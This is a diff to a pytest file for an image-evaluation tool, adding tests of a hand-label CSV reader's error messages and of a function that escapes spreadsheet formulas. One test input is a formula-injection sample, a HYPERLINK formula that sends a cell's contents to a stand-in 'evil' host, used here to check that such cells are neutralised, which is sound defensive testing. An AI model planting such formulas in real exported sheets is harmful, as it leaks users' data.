@@ -1,6 +1,7 @@
 import csv
 import hashlib
 import io
+import re
 from collections.abc import Mapping
 from pathlib import Path
 from typing import Any
@@ -13,13 +14,18 @@ from tests.support.synthetic_study import write_project
 from zimage_eval.cli.commands import main
 from zimage_eval.config.measuring import PinnedFile
 from zimage_eval.metrics.judges.errors import SharedFact, judge_errors, judge_results, shared_facts
-from zimage_eval.metrics.judges.hand_labels import HandLabels, read_hand_labels
+from zimage_eval.metrics.judges.hand_labels import (
+    HandLabels,
+    describe_unmatched,
+    read_hand_labels,
+)
 from zimage_eval.metrics.judges.judges import Picture, hand_judge
-from zimage_eval.metrics.judges.label_sheets import questions
+from zimage_eval.metrics.judges.label_sheets import as_text_cell, questions
 from zimage_eval.output.results import read_results
 from zimage_eval.output.tables import FACTS, read_table
 from zimage_eval.prompts.facts import Facts, ObjectFact, RelationFact
 
+A, B = "0123456789abcdef", "fedcba9876543210"
 FACTS_OF_TWO = Facts(
     objects=(ObjectFact(name="cup", color="red", count=2), ObjectFact(name="bowl")),
     relations=(RelationFact(subject=0, relation="left_of", object=1),),
@@ -39,28 +45,109 @@ def written(folder: Path, *lines: str) -> PinnedFile:
 
 def test_labels_are_read_by_picture_and_fact(tmp_path: Path) -> None:
     file = written(
-        tmp_path, "aa,color 0,yes,", "aa,background,NO,x", "bb,color 0,,", "aa,color 0,yes,"
+        tmp_path, f"{A},color 0,yes,", f"{A},background,NO,x", f"{B},color 0,,", f"{A},color 0,yes,"
     )
-    assert read_hand_labels(file) == {"aa": {"color 0": True, "background": False}}
+    assert read_hand_labels(file) == {A: {"color 0": True, "background": False}}
+
+
+def test_what_spreadsheets_save_is_read(tmp_path: Path) -> None:
+    path = tmp_path / "labels.csv"
+    lines = ["question,held,image,fact", f'"Is it, so?",Yes ,{A},color 0', ",,,"]
+    for start, end in ((b"", "\n"), (b"\xef\xbb\xbf", "\r\n")):
+        path.write_bytes(start + end.join(lines).encode())
+        assert read_hand_labels(pinned(path)) == {A: {"color 0": True}}
 
 
 @pytest.mark.parametrize(
     ("lines", "words"),
     [
-        (["aa,color 0,perhaps,"], r"labels\.csv:2: held: 'perhaps'"),
-        (["aa,color 0,yes,", "aa,colour 0,yes,"], r"labels\.csv:3: fact: 'colour', did you mean"),
-        (["aa,color x,yes,"], "'x' is no index"),
-        (["aa,color 0,yes,", "aa,color 0,no,"], r":3: aa color 0 was labeled otherwise"),
+        ([f"{A},color 0,perhaps,"], r":2: held: 'perhaps'"),
+        ([f"{A},color 0,yes,", f"{A},colour 0,yes,"], r":3: fact: 'colour', did you mean 'color'"),
+        ([f"{A},Shape 0,yes,"], r":2: fact: 'Shape', did you mean 'shape'"),
+        ([f"{A},,yes,"], r":2: fact: ''; allowed: shape, color"),
+        ([f"{A},color x,yes,"], "'x' is no index"),
+        ([f"{A},color 00,yes,"], "'00' is no index"),
+        ([f"{A},color 0 ,yes,"], "'0 ' is no index"),
+        ([f"{A},color ٣,yes,"], "'٣' is no index"),
+        ([f"{A},color {'9' * 5000},yes,"], "is no index"),
+        ([f"{A},shape,yes,"], r":2: fact 'shape': of which object or relation\? like shape 0"),
+        ([f"{A},relation,,"], r":2: fact 'relation': of which"),
+        ([f"{A},background 0,yes,"], ":2: fact 'background 0': background is of the whole"),
+        ([f"{A},color 0,yes,", f"{A},color 0,no,"], rf":3: {A} color 0 was labeled otherwise"),
+        *(
+            ([f"{B},color 0,,", f"{image},color 0,{held},"], rf":3: image: '{shown}' is not 16 hex")
+            for held in ("yes", "")
+            for image, shown in (
+                ("1.23457E+15", r"1\.23457E\+15"),
+                (f" {A} ", f" {A} "),
+                (A.upper(), A.upper()),
+                ("", ""),
+                (A[:15], A[:15]),
+                (A + "0", A + "0"),
+                ("1234567890123456.0", r"1234567890123456\.0"),
+                ("g" * 16, "g" * 16),
+            )
+        ),
+        ([f"{A},color 0"], ":2: 2 fields, the header has 4"),
+        ([f"{A},color 0,yes,Is it, so?"], ":2: 5 fields, the header has 4"),
+        ([f'{A},color 0,yes,"an open quote', f"{B},color 0,yes,"], ":2: unexpected end of data"),
+        ([f"{A},color 0,yes,{'x' * 131_073}"], ":2: field larger than field limit"),
     ],
 )
 def test_a_line_that_is_none_is_named(tmp_path: Path, lines: list[str], words: str) -> None:
-    with pytest.raises(ValueError, match=words):
+    with pytest.raises(ValueError, match=rf"^{tmp_path}/labels\.csv.*{words}"):
         read_hand_labels(written(tmp_path, *lines))
 
 
+@pytest.mark.parametrize(
+    ("content", "words"),
+    [
+        (b"", "no column fact, held, image$"),
+        (b"image;fact;held\n", "no column fact, held, image; fields are parted by a comma, not by"),
+        (b"image\tfact\theld\n", "no column .* not by '.t'"),
+        (b"image,fact,held,held\n", "column held stands twice"),
+        (b"image,fact,held,note\n,,,\n,,,caf\xe9\n", "not UTF-8: byte 0xe9"),
+        ("image,fact,held\n".encode("utf-16"), "not UTF-8: UTF-16"),
+    ],
+)
+def test_a_file_that_is_none_is_named(tmp_path: Path, content: bytes, words: str) -> None:
+    path = tmp_path / "labels.csv"
+    path.write_bytes(content)
+    with pytest.raises(ValueError, match=rf"^{path}:.*{words}"):
+        read_hand_labels(pinned(path))
+
+
+def test_labels_of_no_picture_and_no_fact_are_counted() -> None:
+    labels: HandLabels = {A: {"color 0": True, "shape 99": False}, B: {"style": True}}
+    rows = [{"image": A, "fact": fact} for fact in ("color 0", "shape 0")]
+    assert describe_unmatched(labels, rows) == (
+        f"hand labels: 1 of 2 labeled pictures are in no study, the first {B}; "
+        f"1 of 3 labels are of facts that were not judged, the first {A} shape 99"
+    )
+    assert describe_unmatched({A: {"color 0": True}}, rows) is None
+    assert describe_unmatched({}, []) is None
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *('=HYPERLINK("http://evil/?"&A1,"x")', "+1", "-1 + 2", "@SUM(A1)", "\t=1", "\r=1", "\n=1"),
+        *("'=1", "''=1", "\uff1d1", "a = b", "'Tis a cup", "", "'"),
+    ],
+)
+def test_no_cell_of_a_sheet_is_computed_and_every_text_comes_back(text: str) -> None:
+    cell = as_text_cell(text)
+    assert not cell or cell[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
+    buffer = io.StringIO()
+    csv.writer(buffer).writerow([cell])
+    [[again]] = csv.reader(io.StringIO(buffer.getvalue(), newline="")) if cell else [[""]]
+    assert (again[1:] if re.match(r"'+[=+@\t\r\n\uff1d-]", again) else again) == text
+    assert cell == text or text.lstrip("'")[:1] in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
+
+
 def test_another_file_than_declared_is_refused(tmp_path: Path) -> None:
-    file = written(tmp_path, "aa,color 0,yes,")
-    written(tmp_path, "aa,color 0,no,")
+    file = written(tmp_path, f"{A},color 0,yes,")
+    written(tmp_path, f"{A},color 0,no,")
     with pytest.raises(ValueError, match=r"hand_labels: .* declared is"):
         read_hand_labels(file)
     with pytest.raises(ValueError, match="no such file"):
@@ -201,6 +288,12 @@ def test_from_sheet_to_error(
     declared = pinned(labels).model_dump_json()
     model.write_text(model.read_text().replace("hand_labels: null", f"hand_labels: {declared}"))
     measure_judge.main()
+    assert "hand labels" not in capsys.readouterr().out  # every label has its picture and fact
+    with labels.open("a") as file:
+        file.write(f"{A},style,yes,,,\n")
+    model.write_text(model.read_text().replace(declared, pinned(labels).model_dump_json()))
+    measure_judge.main()
+    assert re.search(rf"1 of \d+ labeled pictures .* first {A}", capsys.readouterr().out)
     found = read_results(Path("reports/judge.json"))["judge"]
     assert 10 <= found["all"]["num_images"] <= 20  # type: ignore[operator]
     assert found["shape"]["agreement"] == found["background"]["agreement"] == 1
